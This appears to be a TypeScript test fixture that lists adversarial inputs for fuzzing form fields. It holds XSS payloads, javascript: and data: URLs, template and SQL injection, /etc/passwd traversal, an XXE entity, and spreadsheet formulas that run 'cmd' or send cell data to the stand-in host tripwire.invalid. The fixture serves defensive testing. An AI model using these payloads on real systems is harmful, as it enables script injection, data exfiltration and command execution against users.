/**
 * What somebody may write into a field on purpose, by the kind of harm it is after. The first of each kind stands for it in the short form of the tests. What would run
 * sets `tripped` on the window or asks for `https://tripwire.invalid`; both are watched.
 */
export const hostileTexts = {
  script: [
    '<script>tripped=1</script>', '"><script src=https://tripwire.invalid/s.js></script>', "'-(tripped=1)-'", '<img src=x onerror=tripped=1>', '<svg onload=tripped=1>', '<svg><script>tripped=1</script></svg>',
    '<iframe srcdoc="<script>parent.tripped=1</script>">', '<details open ontoggle=tripped=1>', '<body onload=tripped=1>', '<input autofocus onfocus=tripped=1>', '<a href="javascript:tripped=1">Ver</a>', '" onmouseover="tripped=1', "' autofocus onfocus='tripped=1",
    '<style>@import url(https://tripwire.invalid/a.css)</style>', '<link rel=stylesheet href=https://tripwire.invalid/a.css>', '<base href=https://tripwire.invalid/>', '<meta http-equiv=refresh content="0;url=https://tripwire.invalid/">', '<object data=https://tripwire.invalid/>', '<embed src=https://tripwire.invalid/>',
    '<form action=https://tripwire.invalid/><button>Enviar</button></form>', '<math><mtext></form><form><mglyph><style></math><img src onerror=tripped=1>', '<noscript><p title="</noscript><img src=x onerror=tripped=1>">', '</textarea><script>tripped=1</script>', '</title><script>tripped=1</script>', ']]><script>tripped=1</script>',
    '<template shadowrootmode=open><slot onslotchange=tripped=1></template>', '<mga-feed src=https://tripwire.invalid/feed.json></mga-feed>', '<video><source onerror=tripped=1>', '<marquee onstart=tripped=1>', '\u0000<script>tripped=1</script>', '<scr\u0000ipt>tripped=1</script>', '＜script＞tripped=1＜/script＞',
  ],
  address: [
    'javascript:tripped=1', 'JaVaScRiPt:tripped=1', ' javascript:tripped=1', '\u0001javascript:tripped=1', 'java\tscript:tripped=1', 'java\nscript:tripped=1', 'javascript\u000a:tripped=1', '&#106;avascript:tripped=1', 'javascript&colon;tripped=1', '%6aavascript:tripped=1', 'javascript://datos.example/%0atripped=1',
    'data:text/html,<script>parent.tripped=1</script>', 'data:text/html;base64,PHNjcmlwdD50cmlwcGVkPTE8L3NjcmlwdD4=', 'DATA:text/javascript,tripped=1', 'vbscript:tripped=1', 'livescript:tripped=1', 'file:///etc/passwd', 'blob:https://tripwire.invalid/1', 'filesystem:https://tripwire.invalid/1', 'about:blank', 'view-source:https://tripwire.invalid/',
    'ws://tripwire.invalid/', 'ftp://tripwire.invalid/', 'intent://tripwire.invalid/#Intent;end', 'mga:tripped', 'feed:javascript:tripped=1', 'https://user:secret@tripwire.invalid/', 'https://datos.example\\@tripwire.invalid/', '//tripwire.invalid/', '\\\\tripwire.invalid\\x', '/\\tripwire.invalid', 'https://', 'https://[::1', 'http://datos.example:99999/',
    'https://xn--e1awd7f.example/', 'https://datos.example/?a="onclick=tripped=1', '?', '#', '../../../../etc/passwd', '{id}', 'https://datos.example/{page}{id}{term}', 'mailto:mesa@datos.example?bcc=otro@tripwire.invalid&body=x', 'tel:+56;phone-context=tripped',
  ],
  style: ['</style><style>*{display:none}', 'color:red;background:url(https://tripwire.invalid/x)', 'expression(tripped=1)', '@import "https://tripwire.invalid/a.css";', 'x;}*{display:none}', 'url(javascript:tripped=1)', 'var(--mga-color-accent)', '--x:{};', 'behavior:url(https://tripwire.invalid/x.htc)', '\\3c script\\3e'],
  // Turns what follows around, and does not end; some end more than they began.
  bidi: ['\u202Eoiranoiculover', 'informe\u202Efdp.exe', '\u2067derecha', '\u2069\u2069\u202Efuera', '\u202C\u202C\u202Efuera', '\u2066izquierda', '\u2068primero', '\u202D1234', '\u200F', '\u200Eabc\u200F', '\u061Cabc', '\u2069', '\u202Aa\u202Bb\u202Cc'],
  'zero-width': ['a\u200Bb\u200Bc', '\u200B', '\u200D', '\uFEFF', '\u2060', '\u00AD\u00AD\u00AD', '\u180E', '\u3164', '\u{E0041}\u{E0042}', '\uFE0F', '\u034F', '\u115F', 'pa\u200Bsa\u2060do'],
  'right-to-left': ['البيانات المفتوحة للجميع', 'נתונים פתוחים 2026 (א)', 'שנה 2026-06-01, 40 %', 'تقرير-2026.pdf', 'abc אבג 123 دهو', '‏(abc)‏', 'ܐܒܓ ހަވީރު'],
  'long-word': ['palabra'.repeat(1_429), 'x'.repeat(10_000), 'W'.repeat(2_000), 'á'.repeat(10_000), '漢'.repeat(2_000), '-'.repeat(2_000), '.'.repeat(2_000), '\u00A0'.repeat(2_000), `https://datos.example/${'a'.repeat(1_900)}`, 'á'.normalize('NFD').repeat(500), `Z${'\u0351\u0337'.repeat(600)}`, 'a b '.repeat(2_500), '\n'.repeat(2_000), '﷽'.repeat(200), 'a\u00ADb'.repeat(600)],
  template: ['${tripped=1}', '{{constructor.constructor("tripped=1")()}}', '<%= tripped=1 %>', '#{tripped=1}', '{%raw%}{{tripped}}', '[[tripped]]', '${{tripped}}', '`${tripped=1}`', '*{tripped}', '@{tripped}', '<#assign x=1>', '{{#each this}}', '$(tripped)', '%{tripped}', '<?php tripped(); ?>', '{!tripped!}'],
  marker: ['<!--?lit$123456789$-->', 'lit$123456789$', '<!--?-->', '{{lit-1234567890}}', '<!--lit-part-->', '<!--/lit-part-->', '<!--', '-->', '<!-->', '<?lit$1$?>', '<?', '<![CDATA[', '<slot></slot>', '</template>', '$lit$', '@click=tripped', '.innerHTML=x', '?hidden=1', '<!DOCTYPE html>'],
  entity: ['&lt;script&gt;tripped=1&lt;/script&gt;', '&#x3C;script&#x3E;', '&amp;lt;', '&quot;&apos;', '&nbsp;', '&#0;', '&#x110000;', '&NotEqualTilde;', '&;', '&xxe;', '&copy', '<!ENTITY x SYSTEM "file:///etc/passwd">'],
  control: ['a\u0000b', '\u0000', '\u0007\u0008\u001B[31m', '\u001B]0;título\u0007', '\u007F', '\u0085\u0080', '\r\r\r', '\r\nX-Tripped: 1', 'a\u000Bb\u000Cc', '\u2028', 'uno\u2029dos', '\t', '\u0000'.repeat(100), '\uFFFF\uFFFE', '\uFFFD', 'BEGIN:VEVENT\r\nEND:VCALENDAR'],
  surrogate: ['\uD800', 'a\uDFFFb', '\uDC00\uD800', `${'x'.repeat(1_999)}\uD83D`, '\uD83D', '🌊\uD83C', '\uDBFF\uDBFF', '\uD800<script>tripped=1</script>'],
  prototype: ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', '__defineGetter__', 'isPrototypeOf', 'length', 'then', 'toJSON', 'Symbol.iterator', 'undefined', 'null', 'NaN', 'true', 'false', '[object Object]', '__proto__[tripped]=1', 'constructor.prototype.tripped'],
  format: ['%s%n%x%d', '{0}{1}{name}', '{count, plural, one {#} other {#}}', "{name, select, other {'}}", '%', '%%', '%00', '%E0%A4%A', '%1$s', '\\u0041\\x41', '\\', '\\n', '$&$1$`', '$0', '/(a+)+$/', '(((((((', '[', '*', '.*', '^(a|a)*$', "'; DROP TABLE proposals; --", '" OR ""="', '*)(uid=*', '../../..', 'CON', 'nul.txt'],
  formula: ['=cmd|\'/C calc\'!A0', '=HYPERLINK("https://tripwire.invalid/?"&A1,"Ver")', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', ';=1+1', '","=1+1', '=1+1\n=2+2', '＝1+1', '"=1+1"', "'=1+1", 'DDE("cmd";"/C calc";"x")', '%0A=1+1'],
  number: ['9'.repeat(400), '1e999', '-0', '0x10', '1_000', 'Infinity', '1,000.00', '٣٤٥', '½', '1e-400', '0'.repeat(400), '3.14159265358979323846264338327950288', '2026-99-99', '9999-12-31', '0000-00-00', '-000001-01-01', '+275760-09-13', '2026-02-30T25:61'],
  emoji: ['👩‍👩‍👧‍👦 familia', '🏳️‍🌈', '🇨🇱', '👩🏽‍🚒', '🏴󠁧󠁢󠁥󠁮󠁧󠁿', '❤️‍🔥', '\u{1F9D1}\u200D', '🌊'.repeat(500), '1️⃣', '☺\uFE0E', '🇨', '👨‍👩‍👧‍👦'.repeat(150)],
  space: ['   ', ' \n ', '\u00A0', '\u3000', '  doble  espacio  ', '\n\n\n', ' antes', 'después ', '\u2003\u2003', '\u1680', 'uno\n\n\n\n\ndos', '\v'],
} as const satisfies Readonly<Record<string, readonly string[]>>;

/** The first of each kind; kinds that do their harm wherever they stand share a text. */
export const oneOfEachKind: readonly string[] = ([['script', 'style', 'template', 'marker', 'entity', 'format'], ['bidi', 'zero-width', 'right-to-left', 'emoji'], ['formula', 'number'], ['address'], ['long-word'], ['control'], ['surrogate'], ['prototype'], ['space']] as const).map((kinds) => kinds.map((kind) => hostileTexts[kind][0]).join(' '));

/** All of ours and, where they are at hand, all of another list; none twice, none empty. */
export const everyHostileText = (others: readonly string[] = []): string[] => [...new Set([...Object.values(hostileTexts).flat(), ...others])].filter(Boolean);
